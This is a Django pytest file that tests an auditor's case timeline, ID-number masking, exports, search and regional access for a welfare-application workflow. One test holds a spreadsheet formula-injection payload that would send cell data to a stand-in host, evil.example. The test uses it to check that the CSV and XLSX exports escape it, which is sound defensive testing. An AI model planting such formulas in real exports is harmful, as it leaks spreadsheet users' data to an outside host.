"""The auditor's timeline, search and exports."""

import csv
import io

import pytest
from openpyxl import load_workbook

from roles.models import Reassignment
from workflows.core.models import SensitiveAccess
from workflows.dibao.flows import DibaoFlow

from ..dibao.desk import (
    Desk,
    accept,
    calculate,
    case_url,
    decide,
    investigate,
    open_task,
    propose,
    review,
    submit,
    through_notice,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def auditor(staff):
    return staff("auditor", "370402")


def approved_case(cast):
    case = submit(Desk(cast.caseworker), cast)
    accept(cast, case)
    investigate(cast, case)
    calculate(cast, case)
    propose(cast, case, "include")
    through_notice(case)
    review(cast, case, "confirm")
    decide(cast, case, "approve")
    return case


def timeline(desk, case, page=1):
    response = desk.get(f"/audit/cases/{case.pk}/?page={page}")
    assert response.status_code == 200
    return response


def all_events(desk, case):
    first = timeline(desk, case)
    events = list(first.context["page"])
    for n in range(2, first.context["page"].paginator.num_pages + 1):
        events += list(timeline(desk, case, n).context["page"])
    return events


def test_a_full_case_produces_its_timeline_in_order(cast, auditor):
    case = approved_case(cast)
    events = all_events(Desk(auditor), case)
    assert events == sorted(events, key=lambda e: e.at, reverse=True)
    done = [
        e.summary for e in reversed(events) if e.kind == "task" and "完成" in e.summary
    ]
    order = [s.split(" 完成")[0] for s in done]
    for earlier, later in [
        ("受理", "收入核算"),
        ("收入核算", "初审意见"),
        ("初审意见", "审核确认"),
        ("审核确认", "作出决定"),
    ]:
        assert order.index(earlier) < order.index(later)
    # field changes in Chinese labels, old → new
    stages = [c for e in events for c in e.changes if c[0] == "办理环节"]
    assert ("办理环节", "待受理", "调查核实") in stages
    assert any(e.kind == "created" and "决定" in e.summary for e in events)
    # ID numbers never appear in full
    page = timeline(Desk(auditor), case).content.decode()
    assert case.applicant.id_number not in page


def test_a_reassignment_appears_with_its_reason(cast, auditor):
    case = submit(Desk(cast.caseworker), cast)
    accept(cast, case)
    task = open_task(case, DibaoFlow.home_visit)
    Desk(cast.town_supervisor).post(
        "/work/reassign/",
        {"task": [task.pk], "to_user": cast.caseworker2.pk, "reason": "陈静外出培训"},
    )
    assert Reassignment.objects.count() == 1
    events = all_events(Desk(auditor), case)
    moved = [e for e in events if e.kind == "reassigned"]
    assert moved and moved[0].reason == "陈静外出培训"
    assert any(e.kind == "task" and e.reason == "陈静外出培训" for e in events)


def test_an_id_reveal_is_in_the_log_without_the_number(cast, auditor):
    case = submit(Desk(cast.caseworker), cast)
    Desk(cast.caseworker).post(case_url(case, "reveal_id", case.applicant.pk))
    events = all_events(Desk(auditor), case)
    reads = [e for e in events if e.kind == "read"]
    assert len(reads) == 1
    text = timeline(Desk(auditor), case).content.decode()
    assert case.applicant.id_number not in text
    assert case.applicant.id_number not in str(SensitiveAccess.objects.values_list())


def test_exports_escape_formulas_and_are_logged(cast, auditor):
    case = submit(Desk(cast.caseworker), cast)
    accept(cast, case)
    task = open_task(case, DibaoFlow.home_visit)
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    Desk(cast.town_supervisor).post(
        "/work/reassign/",
        {"task": [task.pk], "to_user": cast.caseworker2.pk, "reason": evil},
    )
    desk = Desk(auditor)
    response = desk.get(f"/audit/cases/{case.pk}/export/csv/")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + evil in cells and evil not in cells
    response = desk.get(f"/audit/cases/{case.pk}/export/xlsx/")
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [c.value for row in sheet.iter_rows() for c in row]
    assert "'" + evil in values
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)
    exports = SensitiveAccess.objects.filter(action="export", user=auditor)
    assert exports.count() == 2 and exports.first().record == f"timeline:{case.number}"


def test_search_across_cases_by_person_and_kind(cast, auditor):
    first = submit(Desk(cast.caseworker), cast)
    second = submit(Desk(cast.coordinator), cast, channel="village")
    accept(cast, first)
    desk = Desk(auditor)
    response = desk.get("/audit/", {"actor": cast.coordinator.username})
    events = list(response.context["page"])
    assert events and all(e.actor == cast.coordinator.get_full_name() for e in events)
    response = desk.get("/audit/", {"kind": "task", "actor": cast.caseworker.username})
    assert all(e.kind == "task" for e in response.context["page"])
    response = desk.get("/audit/", {"model": "workflows.Application"})
    records = {e.record for e in response.context["page"]}
    assert records
    response = desk.get("/audit/export/csv/", {"model": "workflows.Application"})
    assert response.status_code == 200
    assert second.pk


def test_auditors_see_only_their_region(cast, staff):
    case = submit(Desk(cast.caseworker), cast)
    elsewhere = staff("auditor", "370404")
    desk = Desk(elsewhere)
    assert desk.get(f"/audit/cases/{case.pk}/").status_code == 404
    response = desk.get("/audit/", {"model": "workflows.Application"})
    assert list(response.context["page"]) == []
    assert (
        Desk(cast.caseworker).get("/audit/").status_code == 403
    )  # no audit permission
